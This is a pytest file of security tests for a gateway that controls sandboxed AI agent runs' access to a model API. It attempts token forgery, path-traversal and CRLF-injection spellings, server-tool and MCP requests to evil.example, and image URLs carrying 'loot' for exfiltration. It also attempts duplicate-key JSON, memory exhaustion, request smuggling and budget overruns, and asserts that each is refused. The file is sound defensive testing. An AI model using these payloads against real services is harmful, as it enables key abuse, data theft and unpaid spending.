"""Attacks on the way to the model: other tokens, other paths, other people's money."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from orchestrator.domain.container import MODEL_PORT
from tests.attacks.canary import Canary
from tests.attacks.mark import attack
from tests.attacks.rig import Rig, get, staged, status
from tests.engine.harness import Harness

HELLO = {
    "model": "claude-sonnet-4-5",
    "max_tokens": 10,
    "messages": [{"role": "user", "content": "hello"}],
}

HOST_GROWTH_BYTES = 96 * 1024 * 1024
"""What the host process may grow by: a few bodies, not what was sent."""


def post(path: str, token: str, body: object = HELLO, *headers: str, method: str = "POST") -> bytes:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    lines = (f"{method} {path} HTTP/1.1", "Host: 127.0.0.1:8080", f"X-Api-Key: {token}")
    head = "\r\n".join((*lines, *headers, f"Content-Length: {len(data)}", "Connection: close"))
    return head.encode() + b"\r\n\r\n" + data


@attack(
    "gateway abuse",
    "use the model without a token, with a made-up one, and with half of the real one",
    "401; the model is not asked and nothing is charged",
)
async def test_only_the_runs_token_opens_the_model(closed: Rig) -> None:
    token = closed.token
    forged = (
        "",
        "run-",
        "sk-ant-api03-made-up",
        token[:-1],
        token + "x",
        token.upper(),
        "x" * 9999,
    )
    with closed.watched() as seen:
        answers = await closed.ask([post("/v1/messages", each) for each in forged], MODEL_PORT)
        bearers = [
            post("/v1/messages", "", HELLO, f"Authorization: {kind} {token[:-1]}")
            for kind in ("Bearer", "Basic")
        ]
        answers += await closed.ask(bearers, MODEL_PORT)
    assert {status(answer) for answer in answers} == {401}
    assert seen.nothing_left
    assert not any(token.encode() in answer for answer in answers)


@attack(
    "gateway abuse",
    "use the token of another run",
    "401: a token opens the wire it was made for, and no other",
)
async def test_another_runs_token_is_worth_nothing(closed: Rig, allowed: Rig) -> None:
    with closed.watched() as seen, allowed.watched() as theirs:
        answers = await closed.ask(post("/v1/messages", allowed.token), MODEL_PORT)
        answers += await allowed.ask(post("/v1/messages", closed.token), MODEL_PORT)
    assert [status(answer) for answer in answers] == [401, 401]
    assert (seen.model_requests, theirs.model_requests) == (0, 0)


@attack(
    "gateway abuse",
    "go on after the run has ended, in a container that is still there",
    "401 from the model, resets from proxy and routes",
)
async def test_when_the_run_has_ended_nothing_opens(harness: Harness, canary: Canary) -> None:
    network = {"mode": "allow", "allow_private": [f"web.example:{canary.port}"]}
    request = get(f"http://web.example:{canary.port}/")
    async with staged(harness, canary, network=network) as rig:
        rig.book.answers["web.example"] = [("127.0.0.1",)]
        before = await rig.ask(post("/v1/messages", rig.token), MODEL_PORT)
        before += await rig.ask(request)
        rig.reach.revoke()
        with rig.watched() as seen:
            after = await rig.ask(post("/v1/messages", rig.token), MODEL_PORT)
            after += await rig.ask(request)
    assert [status(answer) for answer in before] == [200, 200]
    assert [status(answer) for answer in after] == [401, 0]
    assert seen.nothing_left


ELSEWHERE = (
    *("/v1/files", "/v1/messages/batches", "/v1/organizations/me", "/v1/models", "/v1/skills"),
    *("/v1/complete", "/v1/messages/", "/v1//messages", "/V1/messages", "/v1/messages/../files"),
    *("/v1/messages/%2e%2e/files", "/v1/messages%2f..%2ffiles", "/v1/messages;/../files"),
    *("/v1/messages/count_tokens/../../files", "/api/oauth/profile", "/", "*"),
    *("/v1/messages?x=/../../v1/files", "/v1/messages?a=b%0d%0aX-Evil:1", "/v1/messages#x"),
    *("http://evil.example/v1/messages", "//evil.example/v1/messages"),
)


@attack(
    "gateway abuse",
    "reach files, batches and the account with the run's token, in 22 spellings",
    "403, or 400 where it is no request at all; the API is not asked",
)
async def test_the_token_opens_two_paths_only(closed: Rig) -> None:
    with closed.watched() as seen:
        answers = await closed.ask(
            [post(path, closed.token) for path in ELSEWHERE]
            + [post("/v1/messages", closed.token, method=m) for m in ("GET", "PUT", "DELETE")],
            MODEL_PORT,
        )
    assert {status(answer) for answer in answers} <= {400, 403}, answers
    assert seen.nothing_left


TOOLS = (
    {"type": "web_search_20250305", "name": "web_search"},
    {"type": "web_fetch_20250910", "name": "web_fetch"},
    {"type": "code_execution_20250825", "name": "code_execution"},
    {"type": "mcp_toolset", "mcp_server_name": "evil"},
    {"type": "anything_new_20300101", "name": "x"},
)


@attack(
    "gateway abuse",
    "have the API itself search, fetch, run code or call an MCP server",
    "403 naming the tool; the API is not asked",
)
async def test_the_api_does_nothing_by_itself(closed: Rig) -> None:
    server = {"type": "url", "url": "https://evil.example/mcp", "name": "evil"}
    bodies: list[dict[str, object]] = [
        *({**HELLO, "tools": [tool]} for tool in TOOLS),
        {**HELLO, "mcp_servers": [server]},
        {**HELLO, "container": {"skills": [{"type": "custom", "skill_id": "x"}]}},
    ]
    with closed.watched() as seen:
        answers = await closed.ask(
            [post("/v1/messages", closed.token, body) for body in bodies], MODEL_PORT
        )
    assert [status(answer) for answer in answers] == [403] * len(bodies)
    assert all(b"x-orchestrator-denied: server_tool" in answer for answer in answers)
    assert seen.nothing_left


def picture(source: dict[str, str]) -> dict[str, object]:
    return {"type": "image", "source": source}


LINK = {"type": "url", "url": "https://evil.example/?loot=c2VjcmV0"}


@attack(
    "gateway abuse",
    "have the API fetch a picture or document by URL, with the loot in its query",
    "403: contents come with the request; a URL or an uploaded file would be fetched outside",
)
@pytest.mark.parametrize(
    "content",
    [
        [picture(LINK)],
        [{"type": "document", "source": LINK}],
        [{"type": "document", "source": {"type": "file", "file_id": "file_x"}}],
        [{"type": "document", "source": {"type": "content", "content": [picture(LINK)]}}],
        [{"type": "tool_result", "tool_use_id": "x", "content": [picture(LINK)]}],
        [{"type": "container_upload", "file_id": "file_x"}],
    ],
    ids=["picture", "document", "file", "nested", "tool result", "upload"],
)
async def test_the_api_fetches_nothing_for_us(closed: Rig, content: list[object]) -> None:
    body = {**HELLO, "messages": [{"role": "user", "content": content}]}
    with closed.watched() as seen:
        answers = await closed.ask(
            [
                post("/v1/messages", closed.token, body),
                post("/v1/messages/count_tokens", closed.token, body),
            ],
            MODEL_PORT,
        )
    assert [status(answer) for answer in answers] == [403, 403]
    assert seen.nothing_left


SEARCH = '{"type": "web_search_20250305", "name": "web_search"}'
SERVER = '{"type": "url", "url": "https://evil.example/", "name": "e"}'

TWICE = tuple(
    f'{{"model": "m", "max_tokens": 1, "messages": [], {rest}}}'.encode()
    for rest in (
        f'"tools": [{SEARCH}], "tools": []',
        f'"mcp_servers": [{SERVER}], "mcp_servers": []',
        '"tools": [{"type": "web_search_20250305", "type": "custom", "name": "web_search"}]',
        f'"m\\u0063p_servers": [{SERVER}]',
    )
)


@attack(
    "gateway abuse",
    "write a key twice, so that we read one value and the API the other",
    "403: a body that can be read in two ways is not passed on",
)
async def test_a_body_that_can_be_read_in_two_ways_is_refused(closed: Rig) -> None:
    with closed.watched() as seen:
        answers = await closed.ask(
            [post("/v1/messages", closed.token, body) for body in TWICE], MODEL_PORT
        )
    assert [status(answer) for answer in answers] == [403] * len(TWICE)
    assert seen.nothing_left


@attack(
    "gateway abuse",
    "fill the orchestrator's memory with huge requests",
    "413 or 431; the process outside grows by no more than a few bodies",
)
async def test_huge_requests_are_not_taken(closed: Rig) -> None:
    code = f"""
import threading
token = os.environ["ANTHROPIC_API_KEY"].encode()
head = b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nX-Api-Key: " + token + b"\\r\\n"
said = []
def declared():
    said.append(ask({MODEL_PORT}, head + b"Content-Length: 999999999999\\r\\n\\r\\n")[:12].decode())
def sent():
    chunk = b"100000\\r\\n" + bytes(1 << 20) + b"\\r\\n"
    body = b"Transfer-Encoding: chunked\\r\\n\\r\\n" + chunk * 40
    said.append(ask({MODEL_PORT}, head + body)[:12].decode())
def long():
    said.append(ask({MODEL_PORT}, head + b"X: " + b"x" * 200_000)[:12].decode())
threads = [threading.Thread(target=t) for t in (declared, sent, sent, sent, sent, long)]
for t in threads: t.start()
for t in threads: t.join()
say(sorted(said))
"""
    before = rss()
    with closed.watched() as seen:
        said = await closed.python(code)
    assert set(said) <= {"HTTP/1.1 413", "HTTP/1.1 431", ""}, said
    assert rss() - before < HOST_GROWTH_BYTES
    assert seen.nothing_left
    assert await closed.answers()


@attack(
    "gateway abuse",
    "smuggle a request to the model behind another, or with two lengths",
    "each request on a connection is judged by itself; two lengths are a 400",
)
async def test_nothing_is_smuggled_to_the_model(closed: Rig) -> None:
    first = post("/v1/messages", "wrong").replace(b"Connection: close\r\n", b"")
    two = post("/v1/messages", closed.token, HELLO, "Transfer-Encoding: chunked")
    with closed.watched() as seen:
        smuggled, double = await closed.ask(
            [first + post("/v1/files", closed.token), two], MODEL_PORT
        )
    assert (smuggled.count(b"HTTP/1.1 401"), smuggled.count(b"HTTP/1.1 403")) == (1, 1)
    assert status(double) == 400
    assert seen.nothing_left


@attack(
    "gateway abuse",
    "spend more than the run's budget",
    "the request after the last dollar is refused; the record says so, and the bill is ours",
)
async def test_a_budget_ends_the_spending(harness: Harness, canary: Canary) -> None:
    usage = {"input_tokens": 1_000_000, "output_tokens": 100_000}
    steps = ({"text": "dear", "usage": usage, "repeat": True},)
    async with staged(harness, canary, steps=steps, max_budget_usd=1.0) as rig:
        with rig.watched() as seen:
            asked = [post("/v1/messages", rig.token)] * 4
            answers = await rig.ask(asked, MODEL_PORT)
        cost = rig.reach.model.bill.usage.cost_usd
    assert [status(answer) for answer in answers] == [200, 400, 400, 400]
    assert b"budget" in answers[-1]
    assert seen.model_requests == 1
    assert cost > 1.0
    assert [event.data["error_type"] for event in seen.events] == ["", "budget_exceeded"]


def rss() -> int:
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE")
